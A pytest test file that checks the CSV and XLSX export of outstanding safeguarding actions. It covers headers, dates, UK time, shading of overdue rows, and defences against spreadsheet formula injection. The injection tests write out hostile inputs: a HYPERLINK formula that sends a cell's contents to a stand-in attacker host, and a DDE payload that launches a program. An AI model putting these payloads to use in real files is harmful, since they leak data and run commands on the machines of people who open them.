"""Outstanding actions as CSV and XLSX: reopened with csv and openpyxl and read back."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.domain.model import ActionStatus
from bot.exports._text import MARKING
from bot.exports.actions import ACTION_COLUMNS, actions_csv, actions_filename
from bot.exports.actions_xlsx import actions_xlsx
from tests.exports.views_testkit import GENERATED_AT, outstanding_row, outstanding_rows

TITLE = "Outstanding actions: Scarborough, overdue only"
HEADERS = [column.header for column in ACTION_COLUMNS]
HEADER_ROW = 4


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def open_sheet(data: bytes) -> Worksheet:
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Outstanding actions"]
    sheet = workbook["Outstanding actions"]
    assert isinstance(sheet, Worksheet)
    return sheet


def column(name: str) -> int:
    """1-based column number of a header."""
    return HEADERS.index(name) + 1


# --- CSV ------------------------------------------------------------------------------


def test_csv_starts_with_a_bom_the_marking_the_title_and_the_header() -> None:
    data = actions_csv(outstanding_rows(), title=TITLE)

    assert data.startswith(b"\xef\xbb\xbf")
    lines = read_csv(data)
    assert lines[0] == [MARKING]
    assert lines[0][0].startswith("OFFICIAL-SENSITIVE")
    assert lines[1] == [TITLE]
    assert lines[2] == HEADERS
    assert b"\r\n" in data  # RFC 4180 line ends, which Excel expects


def test_csv_has_every_row_in_the_order_given_with_its_values() -> None:
    rows = outstanding_rows()
    lines = read_csv(actions_csv(rows, title=TITLE))[3:]

    assert [line[0] for line in lines] == [f"A-{row.id}" for row in rows]
    first = dict(zip(HEADERS, lines[0], strict=True))
    assert first["Locality"] == "Scarborough"
    assert first["Owner"] == "Priya Fictional"
    assert first["Agency"] == "Children's Social Care"
    assert first["Due date"] == "2026-11-02"
    assert first["Working days overdue"] == "13"
    assert first["Status"] == "Open"
    assert first["Subject"] == "CR-0001 (A.B.)"
    assert first["Raised on"] == "2026-10-15"
    assert first["Escalated"] == "Yes"
    assert first["Last update"] == "Spoke to the head of year; meeting booked."
    assert first["Last update at (UK time)"] == "2026-11-12 09:30"

    third = dict(zip(HEADERS, lines[2], strict=True))
    assert third["Subject"] == ""
    assert third["Raised on"] == ""
    assert third["Escalated"] == "No"
    assert third["Last update at (UK time)"] == ""
    # Summer time: 09:00 UTC was 10:00 on the clock in the room.
    fourth = dict(zip(HEADERS, lines[3], strict=True))
    assert fourth["Last update at (UK time)"] == "2026-07-01 10:00"


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-1 visits recorded", "'-1 visits recorded"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("＝1+1", "'＝1+1"),
        ("Plain text = fine", "Plain text = fine"),
        ("CR-0001 (A.B.)", "CR-0001 (A.B.)"),
    ],
)
def test_csv_neutralises_formula_like_text_in_every_text_column(typed: str, written: str) -> None:
    row = outstanding_row(
        1,
        locality=typed,
        description=typed,
        owner_name=typed,
        agency_name=typed,
        subject=typed,
        last_update=typed,
    )
    line = read_csv(actions_csv([row], title=typed))
    assert line[1] == [written]
    values = dict(zip(HEADERS, line[3], strict=True))
    for name in ("Locality", "Action", "Owner", "Agency", "Subject", "Last update"):
        assert values[name] == written, name
    assert values["Reference"] == "A-1"


def test_csv_of_the_sample_rows_has_no_cell_a_spreadsheet_would_run() -> None:
    for line in read_csv(actions_csv(outstanding_rows(), title="=cmd|' /C calc'!A0")):
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_keeps_quotes_commas_and_line_breaks_inside_one_cell() -> None:
    lines = read_csv(actions_csv(outstanding_rows(), title=TITLE))
    description = lines[3 + 3][column("Action") - 1]
    assert description == '\'\tTabbed text and\r\na second line, "quoted", with commas'


def test_csv_with_no_rows_still_has_the_marking_and_header() -> None:
    assert read_csv(actions_csv([], title=TITLE)) == [[MARKING], [TITLE], HEADERS]


# --- XLSX -----------------------------------------------------------------------------


def test_xlsx_has_a_bold_marking_title_generation_time_and_frozen_filtered_header() -> None:
    sheet = open_sheet(actions_xlsx(outstanding_rows(), title=TITLE, generated_at=GENERATED_AT))

    assert sheet["A1"].value == MARKING
    assert sheet["A1"].font.b
    assert sheet["A2"].value == TITLE
    assert sheet["A3"].value == (
        "Generated Thu 19 Nov 2026 14:05 (UK time). 5 actions, 2 overdue (shaded red)."
    )
    assert [c.value for c in sheet[HEADER_ROW]] == HEADERS
    assert all(c.font.b for c in sheet[HEADER_ROW])
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:M9"
    assert sheet.column_dimensions["C"].width == 50
    assert sheet.print_title_rows == "$4:$4"
    assert sheet.oddHeader.center.text == MARKING


def test_xlsx_has_every_row_in_order_with_real_dates_and_numbers() -> None:
    rows = outstanding_rows()
    sheet = open_sheet(actions_xlsx(rows, title=TITLE, generated_at=GENERATED_AT))

    data = list(sheet.iter_rows(min_row=HEADER_ROW + 1))
    assert [r[0].value for r in data] == [f"A-{row.id}" for row in rows]
    for excel_row, row in zip(data, rows, strict=True):
        due = excel_row[column("Due date") - 1]
        assert due.is_date
        assert due.value == datetime(row.due_date.year, row.due_date.month, row.due_date.day)
        assert due.number_format == "ddd d mmm yyyy"
        overdue = excel_row[column("Working days overdue") - 1]
        assert overdue.value == row.days_overdue
        assert overdue.data_type == "n"

    first = data[0]
    assert first[column("Raised on") - 1].value == datetime(2026, 10, 15)
    update_at = first[column("Last update at (UK time)") - 1]
    assert update_at.is_date and update_at.value == datetime(2026, 11, 12, 9, 30)
    assert first[column("Escalated") - 1].value == "Yes"
    assert data[2][column("Raised on") - 1].value is None
    assert data[2][column("Subject") - 1].value is None
    # 09:00 UTC on 1 July is 10:00 British Summer Time.
    summer = data[3][column("Last update at (UK time)") - 1]
    assert summer.value == datetime(2026, 7, 1, 10, 0)


def test_xlsx_stores_formula_like_text_as_text_never_as_a_formula() -> None:
    rows = outstanding_rows()
    data = actions_xlsx(rows, title="=1+1", generated_at=GENERATED_AT)
    sheet = open_sheet(data)

    hyperlink = sheet.cell(row=HEADER_ROW + 1, column=column("Action"))
    assert hyperlink.value == rows[0].description  # exactly what was typed, no apostrophe
    assert hyperlink.data_type == "s"
    assert hyperlink.quotePrefix
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "=1+1"
    at_sign = sheet.cell(row=HEADER_ROW + 2, column=column("Last update"))
    assert (
        at_sign.value == "@SUM(1+1) looked at" and at_sign.data_type == "s" and at_sign.quotePrefix
    )
    not_an_error = sheet.cell(row=HEADER_ROW + 5, column=column("Last update"))
    assert not_an_error.data_type == "s"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)


def test_xlsx_shades_overdue_rows_only() -> None:
    sheet = open_sheet(actions_xlsx(outstanding_rows(), title=TITLE, generated_at=GENERATED_AT))
    fills = [
        {cell.fill.fgColor.rgb for cell in row} for row in sheet.iter_rows(min_row=HEADER_ROW + 1)
    ]
    assert fills[0] == {"00FFC7CE"} and fills[1] == {"00FFC7CE"}
    assert all("00FFC7CE" not in f for f in fills[2:])


def test_xlsx_survives_control_characters_that_xml_cannot_hold() -> None:
    row = outstanding_row(1, description="Bell\x07 and NUL\x00 pasted from a PDF")
    sheet = open_sheet(actions_xlsx([row], title=TITLE, generated_at=GENERATED_AT))
    assert sheet.cell(row=HEADER_ROW + 1, column=column("Action")).value == (
        "Bell and NUL pasted from a PDF"
    )


def test_xlsx_with_no_rows_opens_with_the_header() -> None:
    sheet = open_sheet(actions_xlsx([], title=TITLE, generated_at=GENERATED_AT))
    assert [c.value for c in sheet[HEADER_ROW]] == HEADERS
    assert sheet.max_row == HEADER_ROW
    assert sheet["A3"].value == "Generated Thu 19 Nov 2026 14:05 (UK time). 0 actions."


def test_exports_of_a_thousand_rows_hold_every_row() -> None:
    rows = [
        outstanding_row(n, days_overdue=n % 4, status=ActionStatus.OPEN, due_date=date(2026, 12, 1))
        for n in range(1, 1001)
    ]
    data = actions_xlsx(rows, title=TITLE, generated_at=GENERATED_AT)
    text = actions_csv(rows, title=TITLE)
    assert open_sheet(data).max_row == HEADER_ROW + 1000
    assert len(read_csv(text)) == 3 + 1000


def test_file_names_say_what_and_when_in_london_time() -> None:
    summer = datetime(2026, 7, 1, 9, 0, tzinfo=UTC)
    assert actions_filename(summer, "xlsx") == "MACE-outstanding-actions-2026-07-01-1000.xlsx"
    assert actions_filename(GENERATED_AT, "CSV") == "MACE-outstanding-actions-2026-11-19-1405.csv"
